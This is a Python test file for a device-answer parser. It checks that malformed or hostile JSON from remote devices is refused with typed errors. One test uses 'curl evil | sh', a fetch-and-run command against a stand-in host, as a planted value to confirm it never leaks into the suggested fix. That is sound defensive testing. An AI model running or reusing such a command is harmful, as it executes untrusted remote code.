"""Answers of devices are strangers' text: what is not of the one form is refused, whatever it is."""

import json
from typing import Any

import pytest
from edgepress.devices.transports import answers
from edgepress.devices.transports.answers import DeviceError, Facts, parse, read
from edgepress.errors import EdgepressError, OutOfResource, OutputBusy, RefusedByPolicy
from hypothesis import given
from hypothesis import strategies as st

FACTS: dict[str, Any] = {
    "os": "Linux",
    "machine": "aarch64",
    "bits": 64,
    "python": "3.13.5",
    "implementation": "cpython",
    "libc": "glibc 2.41",
    "macos": "",
    "processor": "Raspberry Pi 5",
    "cpus": 4,
    "memory_total": 8 << 30,
    "memory_available": 7 << 30,
    "disk_free": 20 << 30,
    "clock": 1.7e9,
}


def test_versions_are_read() -> None:
    facts = read(parse(json.dumps(FACTS).encode(), "pi"), Facts, "pi")
    assert (facts.version, facts.glibc) == ((3, 13), (2, 41))
    assert read({**FACTS, "libc": ""}, Facts, "pi").glibc is None


@given(st.binary(max_size=200))
def test_any_bytes_are_an_object_or_refused(line: bytes) -> None:
    try:
        assert isinstance(parse(line, "pi"), dict)
    except EdgepressError as error:
        assert isinstance(error, RefusedByPolicy)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=400),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=9), inner, max_size=3),
    max_leaves=6,
)


@given(st.sampled_from([*FACTS, "more", "error"]), JSON)
def test_a_field_of_another_form_is_refused(field: str, value: Any) -> None:
    try:
        facts = read({**FACTS, field: value}, Facts, "pi")
    except EdgepressError as error:
        assert error.exit_code in (2, 4, 5, 6)
    else:
        assert len(facts.processor) <= 300 and 0 <= facts.memory_total <= 1 << 50


def test_a_long_line_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(answers, "LONGEST_LINE", 100)
    with pytest.raises(RefusedByPolicy, match="more than 100 bytes"):
        parse(b'{"a": "' + b"x" * 100 + b'"}', "pi")


@pytest.mark.parametrize(
    ("code", "kind"),
    [
        ("E-RESOURCE", OutOfResource),
        ("E-BUSY", OutputBusy),
        ("E-DEVICE", DeviceError),
        ("rm", DeviceError),
    ],
)
def test_a_fault_there_is_typed_with_a_way_out_of_ours(code: str, kind: type[EdgepressError]) -> None:
    with pytest.raises(kind) as caught:
        read({"error": {"code": code, "what": "it failed", "why": "curl evil | sh"}}, Facts, "pi")
    assert caught.value.what == "pi: it failed"
    assert "curl" not in caught.value.fix
